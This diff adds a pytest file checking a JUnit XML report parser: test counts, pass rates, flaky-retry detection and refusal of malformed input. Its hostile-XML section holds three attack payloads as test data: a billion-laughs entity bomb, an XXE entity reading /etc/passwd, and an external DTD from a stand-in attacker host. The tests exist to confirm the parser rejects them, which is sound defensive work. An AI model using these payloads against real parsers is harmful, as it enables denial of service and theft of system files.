@@ -1,0 +1,203 @@
+"""JUnit XML: exact counts for every shared report, flaky detection, hostile XML refused."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from conductor.sources.errors import PayloadInvalid, PayloadTooLarge
+from conductor.sources.junit import TestReportSummary, parse_junit, summarize_junit
+
+# Counted from the <testcase> elements of each file (not the tests=/failures= attributes).
+EXPECTED = {
+    # root says tests=6 failures=4 and has no skipped=; the second suite has one <skipped/>
+    "junit/jest-junit.xml": dict(total=6, failed=4, errors=0, skipped=1, passed=1, pass_rate=1 / 5),
+    "junit/junit4-complete.xml": dict(total=8, failed=1, errors=1, skipped=1, passed=5, pass_rate=5 / 7),
+    # the suite claims tests="15" but holds 10 <testcase>s; xfail is reported as <skipped type="pytest.xfail">
+    "junit/python-xunit-pytest.xml": dict(total=10, failed=2, errors=0, skipped=2, passed=6, pass_rate=6 / 8),
+    # XCTest's xunit output drops skips: test_always_skip has no <skipped/> and counts as passed
+    "junit/swift-xunit.xml": dict(total=3, failed=1, errors=0, skipped=0, passed=2, pass_rate=2 / 3),
+}
+
+
+@pytest.mark.parametrize("name", sorted(EXPECTED))
+def test_fixture_counts(fixture_bytes, name):
+    summary = summarize_junit(fixture_bytes(name))
+    expected = EXPECTED[name]
+    assert summary.model_dump(exclude={"pass_rate", "flaky"}) == {k: v for k, v in expected.items() if k != "pass_rate"}
+    assert summary.pass_rate == pytest.approx(expected["pass_rate"])
+    assert summary.flaky is None  # no retries visible in any of them
+
+
+def test_fixture_signals(fixture_bytes):
+    signals = {s.name: s for s in parse_junit(fixture_bytes("junit/python-xunit-pytest.xml"))}
+    assert {name: s.value for name, s in signals.items()} == {
+        "tests_total": 10,
+        "tests_failed": 2,
+        "tests_errors": 0,
+        "tests_skipped": 2,
+        "tests_pass_rate": 0.75,
+    }
+    assert signals["tests_pass_rate"].samples == 8
+
+
+def test_bare_testsuite_root():
+    xml = b"""<testsuite name="s" tests="2">
+      <testcase classname="c" name="a"/>
+      <testcase classname="c" name="b"><error message="boom"/></testcase>
+    </testsuite>"""
+    summary = summarize_junit(xml)
+    assert (summary.total, summary.errors, summary.passed, summary.pass_rate) == (2, 1, 1, 0.5)
+
+
+def test_nested_suites_are_counted():
+    xml = b"""<testsuites><testsuite name="outer">
+      <testcase classname="c" name="a"/>
+      <testsuite name="inner"><testcase classname="c" name="a"><failure/></testcase></testsuite>
+    </testsuite></testsuites>"""
+    summary = summarize_junit(xml)
+    # same classname+name in different suites are different tests, not retries
+    assert (summary.total, summary.failed, summary.passed, summary.flaky) == (2, 1, 1, None)
+
+
+def test_empty_report_has_no_pass_rate():
+    summary = summarize_junit(b"<testsuites/>")
+    assert (summary.total, summary.pass_rate) == (0, None)
+    assert [s.name for s in summary.signals()] == ["tests_total", "tests_failed", "tests_errors", "tests_skipped"]
+
+
+def test_all_skipped_has_no_pass_rate():
+    summary = summarize_junit(b'<testsuite><testcase name="a"><skipped/></testcase></testsuite>')
+    assert (summary.total, summary.skipped, summary.pass_rate) == (1, 1, None)
+
+
+# ------------------------------------------------------------------ flaky
+
+
+def test_surefire_flaky_failure():
+    xml = b"""<testsuite name="com.acme.AppTest">
+      <testcase classname="com.acme.AppTest" name="sometimes">
+        <flakyFailure message="expected 1" type="java.lang.AssertionError"><stackTrace>at ...</stackTrace></flakyFailure>
+      </testcase>
+      <testcase classname="com.acme.AppTest" name="always"/>
+      <testcase classname="com.acme.AppTest" name="broken">
+        <failure message="x"/><rerunFailure message="x"/>
+      </testcase>
+    </testsuite>"""
+    summary = summarize_junit(xml)
+    assert (summary.total, summary.passed, summary.failed, summary.flaky) == (3, 2, 1, 1)
+    assert {s.name: s.value for s in summary.signals()}["tests_flaky"] == 1
+
+
+def test_surefire_reruns_that_never_passed_are_not_flaky():
+    xml = b"""<testsuite><testcase classname="c" name="broken">
+      <failure/><rerunFailure/><rerunFailure/></testcase></testsuite>"""
+    summary = summarize_junit(xml)
+    assert (summary.total, summary.failed, summary.flaky) == (1, 1, 0)
+
+
+def test_repeated_case_failed_then_passed():
+    # Gradle test-retry style: the case appears once per attempt
+    xml = b"""<testsuite name="s">
+      <testcase classname="c" name="retried"><failure/></testcase>
+      <testcase classname="c" name="retried"/>
+      <testcase classname="c" name="stable"/>
+    </testsuite>"""
+    summary = summarize_junit(xml)
+    assert (summary.total, summary.passed, summary.failed, summary.flaky) == (2, 2, 0, 1)
+    assert summary.pass_rate == 1.0
+
+
+def test_repeated_case_still_failing_is_not_flaky():
+    xml = b"""<testsuite name="s">
+      <testcase classname="c" name="retried"><failure/></testcase>
+      <testcase classname="c" name="retried"><failure/></testcase>
+    </testsuite>"""
+    summary = summarize_junit(xml)
+    assert (summary.total, summary.failed, summary.flaky) == (1, 1, 0)
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.sampled_from(["passed", "failure", "error", "skipped"]), max_size=30), st.booleans())
+def test_counts_match_generated_reports(states, bare_root):
+    body = {"passed": "", "failure": "<failure/>", "error": "<error/>", "skipped": "<skipped/>"}
+    cases = "".join(f'<testcase classname="c" name="t{i}">{body[s]}</testcase>' for i, s in enumerate(states))
+    suite = f'<testsuite name="s" tests="999">{cases}</testsuite>'
+    xml = (suite if bare_root else f"<testsuites>{suite}</testsuites>").encode()
+    summary = summarize_junit(xml)
+    assert summary.total == len(states)
+    assert (summary.passed, summary.failed, summary.errors, summary.skipped) == tuple(
+        states.count(s) for s in ("passed", "failure", "error", "skipped")
+    )
+    executed = len(states) - states.count("skipped")
+    assert summary.pass_rate == (states.count("passed") / executed if executed else None)
+
+
+# ------------------------------------------------------------------ hostile and broken XML
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<testsuite><testcase name="&lol9;"/></testsuite>"""
+
+EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<testsuite><testcase name="&xxe;"/></testsuite>"""
+
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE testsuite SYSTEM "http://attacker.invalid/evil.dtd">
+<testsuite><testcase name="a"/></testsuite>"""
+
+
+@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["billion-laughs", "xxe", "external-dtd"])
+def test_hostile_xml_is_refused_quickly(xml):
+    started = time.perf_counter()
+    with pytest.raises(PayloadInvalid) as info:
+        parse_junit(xml)
+    assert info.value.field == "xml.doctype"
+    assert time.perf_counter() - started < 1.0
+
+
+def test_oversized_report_is_refused_before_parsing():
+    big = b"<testsuites>" + b"<!-- padding -->" * 1000 + b"</testsuites>"
+    with pytest.raises(PayloadTooLarge) as info:
+        parse_junit(big, max_bytes=1000)
+    assert (info.value.size, info.value.limit) == (len(big), 1000)
+    # not even well-formed XML: proves nothing was parsed
+    with pytest.raises(PayloadTooLarge):
+        parse_junit(b"<" * 5_000_001)
+
+
+def test_malformed_xml():
+    with pytest.raises(PayloadInvalid) as info:
+        parse_junit(b"<testsuites><testsuite></testsuites>")
+    assert info.value.field == "xml"
+    assert "line 1" in str(info.value)
+
+
+def test_wrong_root_element():
+    with pytest.raises(PayloadInvalid) as info:
+        parse_junit(b"<html><body/></html>")
+    assert info.value.field == "xml.root"
+    assert "<html>" in str(info.value)
+
+
+def test_doctype_text_inside_cdata_is_fine():
+    xml = b"""<testsuite><testcase name="snapshot"><failure><![CDATA[expected <!DOCTYPE html>]]></failure></testcase></testsuite>"""
+    assert summarize_junit(xml).failed == 1
+
+
+def test_summary_is_not_collected_as_a_test():
+    assert TestReportSummary.__test__ is False
